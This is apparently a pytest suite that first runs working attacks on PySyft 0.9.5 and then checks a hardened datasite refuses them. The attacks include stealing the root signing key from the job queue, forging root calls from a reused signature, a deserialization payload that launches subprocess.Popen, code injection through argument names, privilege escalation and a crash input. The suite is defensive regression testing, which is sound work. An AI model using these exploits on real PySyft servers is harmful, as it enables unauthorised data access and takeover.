"""Holes of plain PySyft 0.9.5: each attack succeeds there first, and then fails here.

Both sites are real processes spoken to over real sockets, and nothing is replaced. The
numbers S1 to S11 are those of our list of PySyft's holes; N1 to N4 came up while these
tests were written.
"""

import contextlib
import socket
import time
from pathlib import Path
from typing import Any

import httpx
import numpy as np
import psutil
import pytest

from datasites.site import Site
from syft_code.plans import traveller
from syft_code.runtime.quiet_imports import quiet_import
from tests.hostile.conftest import (
    HTTP,
    PRIVATE_AGES,
    PUBLIC_AGES,
    Desk,
    OurSite,
    PlainSite,
    new_key,
    pack,
    pack_blob,
    pack_call,
    pack_fields,
    pack_signed,
    plain_site_of_its_own,
    refusal,
    sentence,
    submission,
    travelling,
    unpack,
    value_object,
)
from tests.hostile.vault_behind_desk import processes
from tests.plans import plan

with quiet_import():
    import syft
    import zmq
    from syft.client.api import SyftAPICall
    from syft.serde.deserialize import _deserialize
    from syft.service.action.action_object import Action, ActionType
    from syft.service.response import SyftSuccess
    from syft.service.user.user_roles import ServiceRole
    from syft.types.uid import UID, LineageID

pytestmark = pytest.mark.timeout(300)


def method_call(desk: Desk, key: Any, own: Any, method: str, argument: UID) -> Any:
    """Ask a datasite to call a method of an own object with another object."""
    action = Action(
        remote_self=LineageID(own.id),
        op=method,
        args=[LineageID(argument)],
        kwargs={},
        action_type=ActionType.METHOD,
        path=None,
    )
    return desk.call(key, "action.execute", action=action)


def own_object(desk: Desk, key: Any, value: Any) -> Any:
    held = value_object(value)
    answer = desk.call(key, "action.set", action_object=held)
    assert isinstance(answer, SyftSuccess), answer
    return held


def test_s1_a_guest_reads_a_private_asset_there_and_nothing_here(
    plain: PlainSite, ours: OurSite
) -> None:
    guest = new_key()
    zeros = own_object(plain.desk, guest, np.zeros(3))
    answer = method_call(plain.desk, guest, zeros, "__iadd__", plain.private_uid)
    read = answer.value.syft_action_data  # both halves were added to the guest's zeros
    assert np.array_equal(read - PUBLIC_AGES, PRIVATE_AGES)

    private = ours.asset.action_id
    for key, why in ((new_key(), "to a guest"), (ours.alice_key, "may not hold")):
        stored = ours.desk.call(key, "action.set", action_object=value_object(np.zeros(3)))
        assert why in refusal(stored)
        executed = method_call(ours.desk, key, value_object(0), "__iadd__", private)
        assert "does not answer 'action.execute'" in refusal(executed)


def test_s2_a_guest_writes_a_file_there_and_none_here(
    plain: PlainSite, ours: OurSite, tmp_path: Path
) -> None:
    guest, there, here = new_key(), tmp_path / "there", tmp_path / "here"
    zeros = own_object(plain.desk, guest, np.zeros(3))
    path = own_object(plain.desk, guest, str(there))
    method_call(plain.desk, guest, zeros, "tofile", path.id)
    assert there.read_bytes() == np.zeros(3).tobytes()

    path = own_object(ours.desk, ours.alice_key, str(here))
    for key in (new_key(), ours.alice_key):
        executed = method_call(ours.desk, key, path, "tofile", path.id)
        assert "does not answer 'action.execute'" in refusal(executed)
    assert not here.exists()


def test_s3_a_researcher_approves_their_own_request_there_and_not_here(
    plain: PlainSite, ours: OurSite
) -> None:
    asset = plain.alice.datasets.get_all()[0].assets[0]
    text = "def mean_age(ages):\n    return float(ages.mean())\n"
    code = submission(plain.alice, text, "mean_age", {"ages": asset})
    asked = plain.requested(code)
    assert asked.status.name == "PENDING"
    approve_own_request(plain, asked.id)
    mean = plain.alice.code.mean_age(ages=asset).get()
    assert mean == PRIVATE_AGES.mean()

    name = traveller.function_name(ours.pending.hash)
    uid = ours.request(name).id
    for path in ("requestservice.apply", "request.apply", "code.update", "requests.apply"):
        for blocking in (False, True, 0, None):
            refusal(send_with_blocking(ours.desk, ours.alice_key, path, blocking, uid))
    assert ours.request(name).status.name == "PENDING"


def approve_own_request(plain: PlainSite, uid: UID) -> None:
    """Alice has her request approved by a job of her own.

    PySyft forks a job's process from one of many threads; now and then it inherits a lock that nobody
    frees, and hangs. Such a process is ended, and the job is asked for again.
    """
    for _ in range(4):
        plain.desk.call(plain.alice.credentials, "requestservice.apply", uid=uid, blocking=False)
        give_up = time.monotonic() + 20
        while time.monotonic() < give_up:
            if requests_for(plain, "mean_age")[0].status.name == "APPROVED":
                return
            time.sleep(0.5)
        of_the_site = processes("tests.hostile.plain_site", plain.home)
        for process in map(psutil.Process, of_the_site):
            if process.ppid() in of_the_site:
                process.kill()
    pytest.fail("the job did not run")


def requests_for(plain: PlainSite, name: str) -> list[Any]:
    found = plain.alice.requests.get_all()
    return [request for request in found if request.code.service_func_name == name]


def send_with_blocking(desk: Desk, key: Any, path: str, blocking: Any, uid: UID) -> Any:
    call = SyftAPICall(server_uid=desk.uid, path=path, args=[], kwargs={"uid": uid})
    call.blocking = blocking
    return unpack(desk.post(pack(call.sign(key))))


def test_s4_who_connects_to_the_job_port_gets_the_root_key_there_and_finds_no_port_here(
    plain: PlainSite, ours: OurSite
) -> None:
    assert ("0.0.0.0", plain.queue_port) in listening("tests.hostile.plain_site")  # noqa: S104
    key = key_from_the_queue(plain)
    assert str(key.verify_key) == plain.desk.metadata()["verify_key"]
    stolen = plain.desk.call(key, "user.get_all")
    assert ROOT_NAME in [user.name for user in stolen.value]

    port = ours.site.settings().port
    assert listening("datasites.desk.desk_process", ours.site) == {("127.0.0.1", port)}
    assert listening("datasites.vault.vault_process", ours.site) == set()


ROOT_NAME = "Jane Doe"
"""What PySyft calls its root account unless told otherwise."""


def key_from_the_queue(plain: PlainSite) -> Any:
    """Say that we are a worker, let a guest queue jobs, and read the key out of one."""
    context = zmq.Context()
    worker = context.socket(zmq.DEALER)
    worker.linger = 0
    worker.connect(f"tcp://127.0.0.1:{plain.queue_port}")
    worker.send_multipart([b"", b"MDPW01", b"0x01", b"default-pool", UID().no_dash.encode()])
    guest, deadline = new_key(), time.monotonic() + 60
    try:
        while time.monotonic() < deadline:
            plain.desk.call(guest, "metadata.get_metadata", blocking=False)
            while worker.poll(2000):
                _, _, command, *rest = worker.recv_multipart()
                if command == b"0x02":
                    job = _deserialize(rest[0], from_bytes=True)
                    return job.worker_settings.signing_key
    finally:
        worker.send_multipart([b"", b"MDPW01", b"0x05"])
        worker.close()
        context.term()
    raise AssertionError("no job came")


def listening(module: str, home: Site | None = None) -> set[tuple[str, int]]:
    """Where the processes of a module (and of a hospital) listen, from /proc."""
    inodes: set[str] = set()
    for process in Path("/proc").glob("[0-9]*"):
        try:
            words = (process / "cmdline").read_bytes().decode().split("\0")
            if module in words and (home is None or str(home.home) in words):
                inodes |= {str(link.readlink()) for link in (process / "fd").iterdir()}
        except OSError:
            continue
    assert inodes, f"{module} does not run"
    found = set()
    for table, family in (("tcp", socket.AF_INET), ("tcp6", socket.AF_INET6)):
        for line in Path(f"/proc/net/{table}").read_text().splitlines()[1:]:
            fields = line.split()
            address, port = fields[1].split(":")
            if fields[3] == "0A" and f"socket:[{fields[9]}]" in inodes:
                words = [address[i : i + 8] for i in range(0, len(address), 8)]
                raw = b"".join(bytes.fromhex(word)[::-1] for word in words)
                found.add((socket.inet_ntop(family, raw), int(port, 16)))
    return found


def test_s10_an_owner_makes_an_administrator_there_and_not_here(
    plain: PlainSite, ours: OurSite
) -> None:
    account = {"password": "a-Password-1", "password_verify": "a-Password-1"}
    owner = {"name": "o", "email": "owner@example.org", "role": ServiceRole.DATA_OWNER}
    made = plain.desk.call(plain.root.credentials, "user.create", **owner, **account)
    assert isinstance(made, SyftSuccess)
    logged_in = syft.login(
        url=plain.desk.url, email="owner@example.org", password=account["password"]
    )
    admin = {"name": "a", "email": "admin@example.org", "role": ServiceRole.ADMIN}
    made = plain.desk.call(logged_in.credentials, "user.create", **admin, **account)
    assert made.value.role == ServiceRole.ADMIN

    for role in (ServiceRole.ADMIN, ServiceRole.DATA_OWNER, 128, "ADMIN", 2, "2", None, [2]):
        asked = admin | account | {"role": role}
        for made in (
            ours.desk.call(ours.owner_account, "user.create", **asked),
            ours.desk.call(ours.owner_account, "user.create", *asked.values()),
        ):
            assert "does not answer" in refusal(made)


def test_s11_anybody_lists_the_root_keys_calls_there_and_not_here(
    plain: PlainSite, ours: OurSite
) -> None:
    def listing(desk: Desk, **query: str) -> httpx.Response:
        return HTTP.get(f"{desk.url}/api/v2/api", params=query)

    root = plain.desk.metadata()["verify_key"]
    told = listing(plain.desk, verify_key=root, communication_protocol="4")
    assert told.status_code == 200
    assert len(told.content) > 10**6

    nobodys = str(new_key().verify_key)
    for key in (ours.desk.metadata()["verify_key"], nobodys, "", "00", "x" * 64, "0" * 64):
        answer = listing(ours.desk, verify_key=key, communication_protocol="4")
        assert "Only members" in sentence(answer)
    assert "Only members" in sentence(listing(ours.desk))
    member = str(ours.alice_key.verify_key)
    for protocol in ("", "-7", "dev", "4 or so"):
        sentence(listing(ours.desk, verify_key=member, communication_protocol=protocol))
    answer = listing(ours.desk, verify_key=member, communication_protocol="4")
    assert answer.status_code == 200


@pytest.mark.parametrize("name", ["_GenericAlias", "_UnionGenericAlias"])
def test_n1_unpacking_a_strangers_bytes_runs_a_program_there_and_none_here(
    plain: PlainSite, ours: OurSite, tmp_path: Path, name: str
) -> None:
    def call_by_name(mark: Path) -> bytes:
        return pack_blob(name, pack({"path": "subprocess.Popen", "args": ["touch", str(mark)]}))

    there, here = tmp_path / "there", tmp_path / "here"
    with contextlib.suppress(httpx.TransportError):  # it is busy with our program
        plain.desk.post(call_by_name(there))
    wait_for(there)
    in_a_call = tmp_path / "in_a_call"
    packed = pack_call(new_key(), plain.desk.uid, "user.create", call_by_name(in_a_call))
    with contextlib.suppress(httpx.TransportError):
        plain.desk.post(packed)
    wait_for(in_a_call)

    bomb, key = call_by_name(here), ours.alice_key
    in_the_envelope = pack_fields(
        "SignedSyftAPICall",
        [("credentials", bomb), ("serialized_message", pack(b"")), ("signature", pack(b""))],
    )
    for packed in (
        bomb,
        pack_signed(key, bomb),
        pack_call(key, ours.desk.uid, "action.get", bomb),
        in_the_envelope,
    ):
        refusal(unpack(ours.desk.post(packed)))
    time.sleep(0.3)
    assert not here.exists()


def unended(data: bytes) -> bytes:
    """The same packed object with another byte in place of the zero that ends a field's name."""
    return data.replace(b"serialized_message\0", b"serialized_message\xc4")


@pytest.mark.slow
def test_n5_a_text_without_its_end_ends_the_server_there_and_is_refused_here(
    ours: OurSite, tmp_path: Path
) -> None:
    with plain_site_of_its_own(tmp_path / "doomed") as doomed:
        packed = unended(pack_call(new_key(), doomed.desk.uid, "user.create", pack([])))
        with pytest.raises(httpx.TransportError):
            doomed.desk.post(packed)
        assert processes("tests.hostile.plain_site", tmp_path / "doomed") == []

    here = pack_call(new_key(), ours.desk.uid, "user.create", pack([]))
    before = processes("datasites.desk.desk_process", ours.site.home)
    assert "packed as PySyft" in refusal(unpack(ours.desk.post(unended(here))))
    call = pack_fields("SyftAPICall", [("path", pack("user.create"))]).replace(
        b"path\0", b"path\xc4"
    )
    assert "packed as PySyft" in refusal(unpack(ours.desk.post(pack_signed(new_key(), call))))
    assert processes("datasites.desk.desk_process", ours.site.home) == before


def wait_for(path: Path) -> None:
    deadline = time.monotonic() + 20
    while not path.exists():
        assert time.monotonic() < deadline, "the attack did not work on the plain site"
        time.sleep(0.05)


def test_n2_a_guest_turns_the_servers_own_signature_into_root_there_and_not_here(
    plain: PlainSite, ours: OurSite
) -> None:
    def as_root(desk: Desk) -> bytes:
        """Any answer is signed by the root key; a field that nobody signs holds the call."""
        asked = desk.sign(new_key(), "metadata.get_metadata")
        answer = _deserialize(desk.post(asked).content, from_bytes=True)
        call = SyftAPICall(server_uid=desk.uid, path="user.get_all", args=[], kwargs={})
        return pack_fields(
            "SignedSyftAPICall",
            [
                ("credentials", pack(answer.credentials)),
                ("signature", pack(answer.signature)),
                ("serialized_message", pack(answer.serialized_message)),
                ("cached_deseralized_message", pack(call)),
            ],
        )

    stolen = unpack(plain.desk.post(as_root(plain.desk)))
    assert ROOT_NAME in [user.name for user in stolen.value]
    assert "packed as PySyft" in refusal(unpack(ours.desk.post(as_root(ours.desk))))


def test_n3_names_beside_an_innocent_text_run_a_program_there_and_not_here(
    plain: PlainSite, ours: OurSite, tmp_path: Path
) -> None:
    there, here = tmp_path / "there", tmp_path / "here"

    def smuggled(mark: Path, first: str) -> str:
        return f"{first})\n    __import__('pathlib').Path({str(mark)!r}).touch() #"

    text = "def count(ages):\n    return len(ages)\n"
    inputs = {"ages": plain.alice.datasets.get_all()[0].assets[0]}
    names = [smuggled(there, "ages=ages")]
    code = submission(plain.alice, text, "count", inputs, input_kwargs=names)
    plain.requested(code)
    (request,) = [r for r in plain.root.requests.get_all() if r.code.raw_code == text]
    request.approve(disable_warnings=True)
    plain.alice.refresh()
    plain.alice.code.count(**inputs)
    assert there.exists()

    wanted = plan(ours.keys, study="smuggled")
    names = [smuggled(here, "patients=patients, call=call"), "call"]
    code = travelling(ours, wanted, input_kwargs=names)
    answer = ours.desk.call(ours.alice_key, "code.request_code_execution", code=code)
    assert "name and call its traveller" in refusal(answer)
    assert not here.exists()
